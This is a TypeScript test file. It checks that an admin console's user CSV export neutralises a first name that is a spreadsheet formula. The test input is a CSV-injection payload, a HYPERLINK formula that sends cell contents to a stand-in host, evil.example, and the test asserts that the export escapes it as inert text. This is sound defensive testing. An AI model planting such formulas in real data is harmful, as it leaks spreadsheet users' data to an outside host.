import { configure, screen } from '@testing-library/react';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { ADMIN_USER_ROWS, jsonResponse } from '../test/fake-api';
import { logInAs } from '../test/log-in';

// Whole-console renders on a loaded 2-core machine take seconds: wait up to 10 s.
configure({ asyncUtilTimeout: 10_000 });

const HOSTILE_NAME = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")';

/** The admin user list with one user whose first name is a spreadsheet formula. */
function usersWithFormula(): Response {
  const rows = [{ ...ADMIN_USER_ROWS[0], first_name: HOSTILE_NAME, last_name: '+46 Karlsson' }];
  const response = jsonResponse(200, rows);
  response.headers.set('Content-Range', 'users 0-0/1');
  return response;
}

/** Captures what react-admin's downloadCSV hands the browser. */
function captureDownloads(): Blob[] {
  const blobs: Blob[] = [];
  Object.defineProperty(URL, 'createObjectURL', {
    configurable: true,
    value: vi.fn((blob: Blob) => {
      blobs.push(blob);
      return 'blob:export';
    }),
  });
  Object.defineProperty(URL, 'revokeObjectURL', { configurable: true, value: vi.fn() });
  vi.spyOn(HTMLAnchorElement.prototype, 'click').mockImplementation(() => undefined);
  return blobs;
}

/** A blob's text (jsdom's Blob has no text()). */
function textOf(blob: Blob | undefined): Promise<string> {
  return new Promise((resolve, reject) => {
    if (blob === undefined) return reject(new Error('Nothing was downloaded'));
    const reader = new FileReader();
    reader.onload = () => resolve(typeof reader.result === 'string' ? reader.result : '');
    reader.onerror = () => reject(new Error('The download could not be read'));
    reader.readAsText(blob);
  });
}

afterEach(() => vi.restoreAllMocks());

describe('user export', () => {
  it('writes a name that is a formula as inert text', async () => {
    const blobs = captureDownloads();
    const { user } = await logInAs(
      { role: 'admin', firstName: 'Astrid', lastName: 'Andersson', permissions: ['user.read.[*]'] },
      { '/api/admin/users': usersWithFormula },
    );
    expect(await screen.findByText(HOSTILE_NAME)).toBeInTheDocument();
    await user.click(screen.getByRole('button', { name: 'Exportera' }));

    await vi.waitFor(() => expect(blobs).toHaveLength(1));
    const csv = await textOf(blobs[0]);
    const [header, row] = csv.replace(/^\uFEFF/, '').split('\n');
    expect(header).toBe(
      'id,uuid,first_name,last_name,email,role,blocked_at,health_coach,companies',
    );
    expect(row).toBe(
      `4,00000000-0000-4000-8000-000000000004,"'=HYPERLINK(""https://evil.example/?d=""&A1,""Klicka"")",'+46 Karlsson,client@example.com,client,,,`,
    );
  });
});
